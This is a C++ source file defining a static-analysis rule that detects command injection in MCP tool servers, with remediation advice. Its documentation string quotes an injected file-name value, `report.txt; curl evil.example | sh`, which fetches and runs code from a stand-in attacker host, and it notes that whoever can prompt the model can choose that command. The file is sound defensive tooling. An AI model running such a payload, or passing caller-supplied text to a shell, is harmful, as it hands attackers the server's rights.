#include <algorithm>
#include <string>
#include <string_view>

#include "rules/rules.h"
#include "rules/tools/guards.h"
#include "rules/tools/sinks.h"

namespace mcplint {

static void check(const Project& project, Report& report);

constinit const Rule rules::mcp102_command_injection = {
    .id = "MCP102",
    .name = "command-injection",
    .summary = "Tool parameter reaches a shell, or is the program that is started",
    .severity = Severity::Critical,
    .cwe = 78,
    .owasp = "MCP05:2025",
    .doc = R"(
What a shell is given, it reads as a program. `report.txt; curl evil.example | sh` in
a parameter that becomes part of a command line runs both commands, with the
rights of the server. Whoever can put words in front of the model chooses it.

Start the program from a list, without a shell, and put `--` in front of what the
caller sends:

    subprocess.run(["wc", "-l", "--", name], check=True)

Where there must be a shell, as on a remote host, quote with `shlex.quote`. A tool
whose purpose is to run commands needs other means: a sandbox without
credentials, and a person who approves each call.
)",
    .blind_spots = R"(
Shells of programs that are started with their own configuration, and quoting
that does not fit the shell that reads it. A filter of characters is a matter of
MCP109.
)",
    .sinks = kStarts,
    .check = check,
};

/// Words in the names of tools that are there to run commands.
static constexpr std::string_view kPurposes[] = {"shell",    "bash", "terminal", "command",
                                                 "commands", "cmd",  "exec",     "powershell",
                                                 "script",   "ssh"};

static bool is_injected(const TaintedCall& call) {
  const Start start = started_as(call);
  if (start != Start::Shell && start != Start::Program) return false;
  if (start == Start::Program && names_program(call)) return false;
  return !is_settled_word(call) && weak_filter(call) == nullptr;
}

/// Whether the tool is there to run what its caller sends: that is no mistake
/// that quoting would mend.
static bool is_purpose(const Use& use) {
  return !use.call->embedded && is_named(*use.tool, kPurposes);
}

static void check(const Project& project, Report& report) {
  for (const Use& use : uses(project, kStarts, is_injected)) {
    const bool is_shell = started_as(*use.call) == Start::Shell;
    if (is_purpose(use)) {
      Diagnostic& finding = report.at(use.call->span, "`{}` runs whatever the caller of `{}` sends",
                                      use.call->callee, use.tool->name);
      use.explain(finding);
      finding.as(Severity::High)
          .suggest(
              "run it in a sandbox without credentials or network, and have a person approve each "
              "call");
      continue;
    }
    Diagnostic& finding =
        is_shell
            ? report.at(use.call->span, "`{}` gives a shell what the caller of `{}` sends",
                        use.call->callee, use.tool->name)
            : report.at(use.call->span, "`{}` starts the program that the caller of `{}` names",
                        use.call->callee, use.tool->name);
    use.explain(finding);
    finding.suggest(is_shell
                        ? "start the program from a list, without a shell: `run([\"prog\", \"--\", "
                          "value])`; or quote with `shlex.quote`"
                        : "allow only programs of a fixed list");
  }
}

}  // namespace mcplint
